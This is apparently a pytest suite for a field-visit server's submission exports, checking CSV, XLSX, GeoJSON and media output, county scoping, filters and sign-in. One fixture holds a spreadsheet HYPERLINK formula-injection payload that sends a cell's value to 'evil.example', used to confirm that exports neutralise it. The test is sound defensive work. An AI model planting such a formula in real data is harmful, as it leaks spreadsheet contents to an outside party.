"""Exports of submissions — CSV zip in Central's layout, XLSX, GeoJSON, media zip — with the list's
filters and scope, through the pages and the REST API."""
import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from server.domain.clock import today_in_china
from server.services import exports
from tests.support.visit_form import visit_xml
from tests.support.web import sign_in

JPEG_A = b"\xff\xd8\xff\xe0" + b"photo-A" * 1000
JPEG_B = b"\xff\xd8\xff\xe0" + b"photo-B" * 500
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
ROOT_HEADER = [
    "SubmissionDate", "case", "person", "age", "income", "visit_date", "needs", "location-Latitude",
    "location-Longitude", "location-Altitude", "location-Accuracy", "photo", "photo2", "meta-instanceID", "KEY",
    "SubmitterID", "SubmitterName", "AttachmentsPresent", "AttachmentsExpected", "Status", "ReviewState", "DeviceID",
    "Edits", "FormVersion", "StationCode", "StationName", "CaseID"]


@pytest.fixture
def field(collect, client, make_user):
    """Two visits at 华山 (五华区) — one with a photo, one whose answers are formulas — and one at 拓东 (盘龙区)."""
    from server.services.accounts import active_collect_token
    from tests.support.collect import CollectClient

    assert collect.submit(visit_xml("uuid:a1", photo="a.jpg"), [("a.jpg", JPEG_A)]).status_code == 201
    assert collect.submit(visit_xml("uuid:a2", person=FORMULA, photo=None, location="",
                                    members=(("@SUM(1,2)", "9"),)), []).status_code == 201
    other = make_user("worker_b", "worker", "530103001", "Secret-pass-1")
    phone_b = CollectClient(client, f"/key/{active_collect_token(other).token}")
    assert phone_b.submit(visit_xml("uuid:b1", person="外站", photo="b.jpg", location="25.03 102.73"),
                          [("b.jpg", JPEG_B)]).status_code == 201
    make_user("wuhua", "county", "530102", "Wuhua-pass-1")
    make_user("city", "admin", "530100", "City-pass-1")
    return collect


def download(client, url: str, headers: dict | None = None):
    """Read a streamed response whole and close it, as a WSGI server does."""
    response = client.get(url, headers=headers or {})
    try:
        return response, response.get_data()
    finally:
        response.close()


def csv_tables(data: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: list(csv.DictReader(io.TextIOWrapper(archive.open(name), encoding="utf-8-sig", newline="")))
                for name in archive.namelist()}


def api_token(client, username: str, password: str) -> dict:
    token = client.post("/api/v1/sessions", json={"username": username, "password": password}).json["token"]
    return {"Authorization": f"Bearer {token}"}


def test_csv_zip_has_the_root_table_and_one_table_per_repeat(client, field):
    sign_in(client, "city", "City-pass-1")
    response, data = download(client, "/submissions/export?format=csv&form=visit")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert f'filename="visit-{today_in_china().isoformat()}.csv.zip"' in response.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == ["visit.csv", "visit-member.csv"]
        with archive.open("visit.csv") as root:
            assert root.read(3) == b"\xef\xbb\xbf"  # so that Excel on Chinese Windows reads UTF-8
            assert next(csv.reader(io.TextIOWrapper(root, encoding="utf-8", newline=""))) == ROOT_HEADER
    tables = csv_tables(data)
    rows = {row["KEY"]: row for row in tables["visit.csv"]}
    assert list(rows) == ["uuid:a1", "uuid:a2", "uuid:b1"]  # oldest first
    a1 = rows["uuid:a1"]
    assert (a1["person"], a1["age"], a1["income"], a1["visit_date"], a1["needs"]) == (
        "王芳", "67", "1250.5", "2026-11-20", "care school")
    assert (a1["location-Latitude"], a1["location-Longitude"], a1["location-Altitude"], a1["location-Accuracy"]) == (
        "25.0406", "102.7123", "1891.5", "4.8")
    assert (a1["photo"], a1["photo2"], a1["meta-instanceID"]) == ("a.jpg", "", "uuid:a1")
    assert (a1["AttachmentsPresent"], a1["AttachmentsExpected"], a1["ReviewState"], a1["Edits"]) == ("1", "1", "", "0")
    assert a1["SubmissionDate"].endswith("Z") and a1["DeviceID"] == "collect:AbCdEfGh12345678"
    assert (a1["FormVersion"], a1["StationCode"], a1["StationName"]) == ("2026010101", "530102001", "华山街道")
    assert a1["SubmitterName"] == "worker1" and a1["SubmitterID"].isdigit()
    assert rows["uuid:a2"]["location-Latitude"] == "" and rows["uuid:b1"]["location-Altitude"] == ""
    members = tables["visit-member.csv"]
    assert list(members[0]) == ["member_name", "member_age", "PARENT_KEY", "KEY"]
    assert [(m["member_name"], m["member_age"], m["PARENT_KEY"], m["KEY"]) for m in members[:2]] == [
        ("李强", "40", "uuid:a1", "uuid:a1/member[1]"), ("李娜", "12", "uuid:a1", "uuid:a1/member[2]")]
    assert len(members) == 5


def test_an_edit_keeps_the_key_and_counts_in_edits(client, field):
    edit = visit_xml("uuid:a1-edit", person="王芳芳", photo="a.jpg", deprecated_id="uuid:a1")
    assert field.submit(edit, []).status_code == 201
    sign_in(client, "wuhua", "Wuhua-pass-1")
    row = csv_tables(download(client, "/submissions/export?format=csv&form=visit")[1])["visit.csv"][0]
    assert (row["KEY"], row["meta-instanceID"], row["person"]) == ("uuid:a1", "uuid:a1-edit", "王芳芳")
    assert (row["Edits"], row["ReviewState"], row["AttachmentsPresent"]) == ("1", "edited", "1")


def test_free_text_formulas_are_neutralised_in_csv_and_xlsx(client, field):
    sign_in(client, "wuhua", "Wuhua-pass-1")
    tables = csv_tables(download(client, "/submissions/export?format=csv&form=visit")[1])
    a2 = next(r for r in tables["visit.csv"] if r["KEY"] == "uuid:a2")
    assert a2["person"] == "'" + FORMULA
    assert next(m for m in tables["visit-member.csv"] if m["PARENT_KEY"] == "uuid:a2")["member_name"] == "'@SUM(1,2)"
    response, data = download(client, "/submissions/export?format=xlsx&form=visit")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(data))
    try:
        person = book["visit"].cell(row=4, column=ROOT_HEADER.index("person") + 1)  # two header rows
        assert person.value == "'" + FORMULA and person.data_type == "s"
        assert book["member"]["A5"].value == "'@SUM(1,2)"
    finally:
        book.close()


def test_xlsx_has_one_sheet_per_table_with_numbers_as_numbers(client, field):
    sign_in(client, "city", "City-pass-1")
    response, data = download(client, "/submissions/export?format=xlsx&form=visit&station=530102001")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f'filename="visit-{today_in_china().isoformat()}.xlsx"' in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(data))
    try:
        assert book.sheetnames == ["visit", "member"]
        rows = list(book["visit"].iter_rows(values_only=True))
        assert rows[0][:4] == ("提交时间（北京时间）", "服务对象", "姓名", "年龄")  # the form's words first
        assert "位置（纬度）" in rows[0] and "审核状态" in rows[0]
        assert list(rows[1]) == ["SubmissionDate (北京时间)", *ROOT_HEADER[1:]] and len(rows) == 4  # then the codes
        a1 = dict(zip(ROOT_HEADER, rows[2]))
        assert (a1["KEY"], a1["person"], a1["age"], a1["location-Latitude"], a1["needs"], a1["ReviewState"]) == (
            "uuid:a1", "王芳", 67, 25.0406, "care、school", "待审核")
        members = list(book["member"].iter_rows(values_only=True))
        assert members[0] == ("成员姓名", "成员年龄", "所属记录", "记录编号")
        assert members[1] == ("member_name", "member_age", "PARENT_KEY", "KEY")
        assert members[2] == ("李强", 40, "uuid:a1", "uuid:a1/member[1]") and len(members) == 5
    finally:
        book.close()


def test_geojson_has_a_point_per_located_submission(client, field):
    sign_in(client, "city", "City-pass-1")
    response, data = download(client, "/submissions/export?format=geojson")
    assert response.status_code == 200 and response.mimetype == "application/geo+json"
    assert f'filename="submissions-{today_in_china().isoformat()}.geojson"' in response.headers["Content-Disposition"]
    collection = json.loads(data)
    assert collection["type"] == "FeatureCollection"
    features = {f["id"]: f for f in collection["features"]}
    assert list(features) == ["uuid:a1", "uuid:b1"]  # uuid:a2 has no location
    a1 = features["uuid:a1"]
    assert a1["geometry"] == {"type": "Point", "coordinates": [102.7123, 25.0406]}
    assert {k: a1["properties"][k] for k in ("instanceID", "form", "station", "station_name", "case", "visit_date",
                                              "review_state", "accuracy")} == {
        "instanceID": "uuid:a1", "form": "visit", "station": "530102001", "station_name": "华山街道", "case": None,
        "visit_date": "2026-11-20", "review_state": "received", "accuracy": 4.8}


def test_media_zip_holds_the_uploaded_files(client, field):
    sign_in(client, "city", "City-pass-1")
    response, data = download(client, "/submissions/export?format=media&form=visit")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["files/uuida1/a.jpg", "files/uuidb1/b.jpg"]
        assert archive.read("files/uuida1/a.jpg") == JPEG_A and archive.read("files/uuidb1/b.jpg") == JPEG_B


def test_a_county_export_holds_nothing_from_another_county(client, field):
    sign_in(client, "wuhua", "Wuhua-pass-1")
    tables = csv_tables(download(client, "/submissions/export?format=csv&form=visit")[1])
    assert [r["KEY"] for r in tables["visit.csv"]] == ["uuid:a1", "uuid:a2"]
    assert {m["PARENT_KEY"] for m in tables["visit-member.csv"]} == {"uuid:a1", "uuid:a2"}
    # asking for the other county's station by name does not widen the scope
    tables = csv_tables(download(client, "/submissions/export?format=csv&form=visit&station=530103001")[1])
    assert tables["visit.csv"] == [] and tables["visit-member.csv"] == []
    geojson = json.loads(download(client, "/submissions/export?format=geojson&county=530103")[1])
    assert [f["id"] for f in geojson["features"]] == ["uuid:a1"]
    with zipfile.ZipFile(io.BytesIO(download(client, "/submissions/export?format=media")[1])) as archive:
        assert archive.namelist() == ["files/uuida1/a.jpg"]
    xlsx = load_workbook(io.BytesIO(download(client, "/submissions/export?format=xlsx&form=visit")[1]))
    try:
        assert [row[ROOT_HEADER.index("KEY")] for row in xlsx["visit"].iter_rows(min_row=3, values_only=True)] == [
            "uuid:a1", "uuid:a2"]
    finally:
        xlsx.close()


def test_exports_follow_the_lists_filters(client, field):
    sign_in(client, "city", "City-pass-1")
    tables = csv_tables(download(client, "/submissions/export?format=csv&form=visit&station=530103001")[1])
    assert [r["KEY"] for r in tables["visit.csv"]] == ["uuid:b1"]
    tables = csv_tables(download(client, "/submissions/export?format=csv&form=visit&review_state=approved")[1])
    assert tables["visit.csv"] == []
    tomorrow = today_in_china().toordinal() + 1
    from datetime import date

    later = date.fromordinal(tomorrow).isoformat()
    assert json.loads(download(client, f"/submissions/export?format=geojson&from={later}")[1])["features"] == []


def test_csv_and_xlsx_need_a_form(client, field):
    sign_in(client, "wuhua", "Wuhua-pass-1")
    for fmt in ("csv", "xlsx"):
        response, data = download(client, f"/submissions/export?format={fmt}")
        page = data.decode("utf-8")
        assert response.status_code == 400 and "400.7" in page and "需要先选择一个表单" in page
    headers = api_token(client, "wuhua", "Wuhua-pass-1")
    response, _data = download(client, "/api/v1/submissions/export?format=csv", headers)
    assert response.status_code == 400 and response.json["code"] == "400.7"
    assert "Choose one form" in response.json["message_en"]


def test_unknown_form_and_format_are_refused(client, field):
    sign_in(client, "wuhua", "Wuhua-pass-1")
    assert download(client, "/submissions/export?format=csv&form=nope")[0].status_code == 404
    assert download(client, "/submissions/export?format=pdf&form=visit")[0].status_code == 400
    assert download(client, "/submissions/export?form=visit")[0].status_code == 400


def test_xlsx_beyond_excels_rows_is_refused_before_any_byte(client, field, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    sign_in(client, "city", "City-pass-1")
    response, data = download(client, "/submissions/export?format=xlsx&form=visit")
    assert response.status_code == 400 and "400.8" in data.decode("utf-8")
    assert download(client, "/submissions/export?format=xlsx&form=visit&station=530102001")[0].status_code == 200


def test_exports_need_sign_in(client, field):
    response = client.get("/submissions/export?format=csv&form=visit")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert client.get("/api/v1/submissions/export?format=csv&form=visit").status_code == 401


def test_rest_api_export_takes_the_api_lists_filters_and_scope(client, field):
    headers = api_token(client, "wuhua", "Wuhua-pass-1")
    response, data = download(client, "/api/v1/submissions/export?format=csv&form=visit&worker=worker1", headers)
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert [r["KEY"] for r in csv_tables(data)["visit.csv"]] == ["uuid:a1", "uuid:a2"]
    geojson = json.loads(download(client, "/api/v1/submissions/export?format=geojson", headers)[1])
    assert [f["id"] for f in geojson["features"]] == ["uuid:a1"]
    assert download(client, "/api/v1/submissions/export?format=media&form=visit", headers)[0].status_code == 200
    for bad in ("format=pdf", "format=csv&form=visit&limit=10", "form=visit"):
        response, _data = download(client, f"/api/v1/submissions/export?{bad}", headers)
        assert response.status_code == 400 and response.json["code"] == "400.1", bad
    # the fixed path is not taken for an instance ID, and instance IDs still are
    assert client.get("/api/v1/submissions/uuid:a1", headers=headers).status_code == 200


def test_the_list_page_links_to_exports_with_its_filters(client, field):
    sign_in(client, "wuhua", "Wuhua-pass-1")
    page = client.get("/submissions?form=visit&station=530102001").get_data(as_text=True)
    assert 'id="export-csv" href="/submissions/export?format=csv&amp;form=visit&amp;station=530102001"' in page
    assert 'id="export-xlsx"' in page and 'id="export-media"' in page
    page = client.get("/submissions?review_state=received").get_data(as_text=True)
    assert 'id="export-csv"' not in page
    assert 'id="export-geojson" href="/submissions/export?format=geojson&amp;review_state=received"' in page
